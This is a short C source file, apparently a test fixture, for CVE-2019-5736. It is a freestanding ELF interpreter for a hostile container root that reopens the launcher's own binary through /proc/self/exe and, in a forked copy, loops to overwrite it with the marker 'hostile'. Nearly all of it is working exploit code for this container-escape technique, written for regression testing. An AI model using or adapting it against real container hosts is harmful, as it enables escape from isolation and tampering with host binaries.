/* SPDX-License-Identifier: LGPL-2.1-or-later */
/*
 * The dynamic loader of a hostile root directory (CVE-2019-5736). A program there begins with
 * "#!/proc/self/exe", so that the launcher's own file is executed again, and this is its ELF
 * interpreter: it opens the file through /proc/self/exe, hands the descriptor to a second copy
 * of itself, and that writes to it as soon as nobody executes it any more. Built without a C
 * library: gcc -static -nostdlib. Prints "in" where it got that far, and "written".
 */
#include <fcntl.h>
#include <sys/syscall.h>
#include <time.h>

static long sys(long n, long a, long b, long c)
{
	long r;

	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "0"(n), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return r;
}

static void say(const char *text)
{
	long n = 0;

	while (text[n])
		n++;
	sys(SYS_write, 1, (long)text, n);
}

static void write_through(char *path)
{
	struct timespec nap = { 0, 2000000 };

	for (int i = 0; i < 500; i++) {
		long fd = sys(SYS_open, (long)path, O_WRONLY | O_TRUNC, 0);
		if (fd >= 0) {
			sys(SYS_write, fd, (long)"hostile\n", 8);
			say("written\n");
			return;
		}
		sys(SYS_nanosleep, (long)&nap, 0, 0);
	}
	say("not written\n");
}

void begin(long *stack)
{
	char **argv = (char **)(stack + 1);
	static char path[] = "/proc/self/fd/0";
	char *again[] = { (char *)"/evil", path, (char *)"again", 0 };
	char *env[] = { 0 };

	if (stack[0] == 3 && argv[2][0] == 'a' && argv[2][1] == 'g') {
		write_through(argv[1]);
		sys(SYS_exit_group, 0, 0, 0);
	}
	long fd = sys(SYS_open, (long)"/proc/self/exe", O_RDONLY, 0);
	say("in\n");
	path[14] = (char)('0' + fd);
	if (fd >= 0 && fd < 10 && sys(SYS_fork, 0, 0, 0) == 0) {
		sys(SYS_execve, (long)"/evil", (long)again, (long)env);
		say("no exec\n");
	}
	sys(SYS_exit_group, 0, 0, 0);
}

__asm__(".globl _start\n_start:\n mov %rsp, %rdi\n and $-16, %rsp\n call begin\n hlt\n");
